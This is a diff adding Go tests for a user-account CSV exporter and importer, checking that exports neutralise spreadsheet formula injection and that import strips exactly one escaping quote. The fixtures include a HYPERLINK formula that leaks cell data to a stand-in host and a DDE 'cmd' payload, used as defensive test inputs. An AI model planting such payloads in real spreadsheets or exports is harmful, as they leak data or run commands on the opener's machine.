@@ -104,6 +104,122 @@ func checkFormulaRule(t *testing.T, s string) {
 	}
 }
 
+// formulaUsers hold text that a spreadsheet would run as a formula, in
+// every field an export writes, and text that only looks escaped.
+func formulaUsers() []user.User {
+	at := time.Date(2026, 1, 2, 3, 4, 5, 678_000_000, time.UTC)
+	var users []user.User
+	for i, s := range []string{
+		`=HYPERLINK("http://evil.example/?"&A1,"click")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
+		"\t=1+1", "\r=1+1", "\x00=1", "'=1+1", "''-x", "'plain", "''", "'", "a=b", "-bob@example.org", "=", "",
+	} {
+		users = append(users, user.User{ID: s, Email: s, Roles: []user.Role{user.Role(s)}, PasswordHash: s,
+			CreatedAt: at.Add(time.Duration(i) * time.Second), UpdatedAt: at, DisabledAt: at})
+	}
+	return users
+}
+
+// startsFormula reports whether a spreadsheet would read cell as a formula.
+func startsFormula(cell string) bool {
+	return cell != "" && strings.ContainsRune("=+-@\t\r\x00", rune(cell[0]))
+}
+
+// A CSV export holds no cell that a spreadsheet runs, and reads back as
+// exactly what was written: import undoes the escape.
+func TestWriterCSVNeutralisesFormulas(t *testing.T) {
+	users := formulaUsers()
+	for _, hashes := range []bool{false, true} {
+		var buf bytes.Buffer
+		w, err := transfer.NewWriter(&buf, transfer.CSV, hashes)
+		if err != nil {
+			t.Fatal(err)
+		}
+		for _, u := range users {
+			if err := w.Write(u); err != nil {
+				t.Fatal(err)
+			}
+		}
+		if err := w.Close(); err != nil {
+			t.Fatal(err)
+		}
+		cells := csvCells(t, buf.String())
+		for _, row := range cells {
+			for _, c := range row {
+				if startsFormula(c) {
+					t.Errorf("hashes=%v: CSV cell %q would run as a formula", hashes, c)
+				}
+			}
+		}
+		got, err := readAll(buf.String(), transfer.CSV)
+		if err != nil || len(got) != len(users) {
+			t.Fatalf("hashes=%v: Read of the export = %d records, %v; want %d", hashes, len(got), err, len(users))
+		}
+		for i, u := range users {
+			g := got[i]
+			if g.ID != strings.TrimSpace(u.ID) || g.Email != u.Email {
+				t.Errorf("hashes=%v: id, email read back as %q, %q; want %q, %q", hashes, g.ID, g.Email, u.ID, u.Email)
+			}
+			if hashes && g.Hash != strings.TrimSpace(u.PasswordHash) {
+				t.Errorf("hashes=%v: hash read back as %q; want %q", hashes, g.Hash, u.PasswordHash)
+			}
+		}
+	}
+}
+
+// csvCells splits CSV text into rows of cells without undoing anything, as
+// a spreadsheet would see them.
+func csvCells(t *testing.T, text string) [][]string {
+	t.Helper()
+	var rows [][]string
+	var row []string
+	var cell strings.Builder
+	quoted, inQuotes := false, false
+	for i := 0; i < len(text); i++ {
+		c := text[i]
+		switch {
+		case inQuotes && c == '"' && i+1 < len(text) && text[i+1] == '"':
+			cell.WriteByte('"')
+			i++
+		case inQuotes && c == '"':
+			inQuotes = false
+		case inQuotes:
+			cell.WriteByte(c)
+		case c == '"' && cell.Len() == 0 && !quoted:
+			inQuotes, quoted = true, true
+		case c == ',':
+			row = append(row, cell.String())
+			cell.Reset()
+			quoted = false
+		case c == '\n':
+			rows = append(rows, append(row, cell.String()))
+			row = nil
+			cell.Reset()
+			quoted = false
+		default:
+			cell.WriteByte(c)
+		}
+	}
+	return rows
+}
+
+// Cells that a spreadsheet user escaped by hand, or that an export
+// escaped, lose exactly one leading quote; nothing else changes.
+func TestReadCSVUndoesFormulaEscape(t *testing.T) {
+	in := "id,email,password\n" +
+		"'-5,'-bob@x.org,'=pass word\n" +
+		"u1,'+alice@x.org,''=two quotes\n" +
+		"u2,'plain@x.org,'not escaped\n" +
+		"u3,-carol@x.org,-raw\n" +
+		"u4,\"'\t@x.org\",\"'\r=1\"\n"
+	checkRecords(t, "formula escapes", in, transfer.CSV, []rec{
+		{Line: 2, ID: "-5", Email: "-bob@x.org", Password: "=pass word"},
+		{Line: 3, ID: "u1", Email: "+alice@x.org", Password: "'=two quotes"},
+		{Line: 4, ID: "u2", Email: "'plain@x.org", Password: "'not escaped"},
+		{Line: 5, ID: "u3", Email: "-carol@x.org", Password: "-raw"},
+		{Line: 6, ID: "u4", Email: "\t@x.org", Password: "\r=1"},
+	})
+}
+
 func FuzzFormulaEscape(f *testing.F) {
 	for _, s := range []string{"", "=", "'", "''=", "'a", "-x@y.z", "'\t", "\r\n", "a", "'''@", "\x00"} {
 		f.Add(s)
